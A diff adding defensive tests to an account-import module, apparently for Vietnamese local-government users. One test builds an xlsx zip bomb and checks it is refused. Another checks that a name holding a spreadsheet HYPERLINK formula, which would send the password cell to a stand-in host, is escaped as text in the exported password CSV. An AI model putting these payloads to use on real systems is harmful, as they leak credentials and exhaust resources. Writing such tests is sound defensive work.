@@ -120,6 +120,30 @@ def test_it_reads_an_xlsx_sheet(tmp_path, unit_a):
     }
 
 
+def test_an_xlsx_zip_bomb_is_refused_before_it_is_parsed_naming_the_file(tmp_path):
+    """A 120 kB sheet whose XML inflates to 120 MB: refused by the ratio and the bytes
+    inflated (the application's one spreadsheet reader), not parsed for minutes."""
+    import io
+    import zipfile
+
+    from openpyxl import Workbook
+
+    real = io.BytesIO()
+    Workbook().save(real)
+    buf = io.BytesIO()
+    member = "xl/worksheets/sheet1.xml"
+    with zipfile.ZipFile(real) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for info in src.infolist():
+            if info.filename != member:
+                z.writestr(info.filename, src.read(info))
+        z.writestr(member, b"<worksheet>" + b" " * (120 * 1024 * 1024))
+    path = tmp_path / "nguoidung.xlsx"
+    path.write_bytes(buf.getvalue())
+
+    with pytest.raises(accounts.ImportError_, match=r"nguoidung\.xlsx: .*ZIP bomb"):
+        accounts.read_sheet(path)
+
+
 def test_a_name_shared_by_two_current_units_asks_for_the_code(unit_a, db):
     Unit.objects.create(province_code="38", kind=UnitKind.WARD, name="Xã An Bình", code="90009")
     unit, why = accounts.find_unit("38", "Xã An Bình")
@@ -251,3 +275,16 @@ def test_the_admin_unit_search_labels_and_orders_legacy_units_last(
     )
     texts = [r["text"] for r in response.json()["results"]]
     assert texts == ["Xã An Bình", "Xã An Bình (trước 7/2025, huyện Hoằng Lộc)"]
+
+
+def test_the_password_list_writes_a_name_that_looks_like_a_formula_as_text():
+    """A name from an uploaded sheet starting with "=" never becomes a live formula."""
+    link = '=HYPERLINK("http://x.example/?p="&D2,"Mở")'
+    made = accounts.NewAccount(
+        username="canbo_tanphu", full_name=link, unit="-Xã Tân Phú", password="abcd-efgh-ijkm-npqr"
+    )
+    rows = accounts.accounts_csv([made]).decode("utf-8-sig").splitlines()
+    assert (
+        rows[1]
+        == 'canbo_tanphu,"\'=HYPERLINK(""http://x.example/?p=""&D2,""Mở"")",\'-Xã Tân Phú,abcd-efgh-ijkm-npqr'
+    )
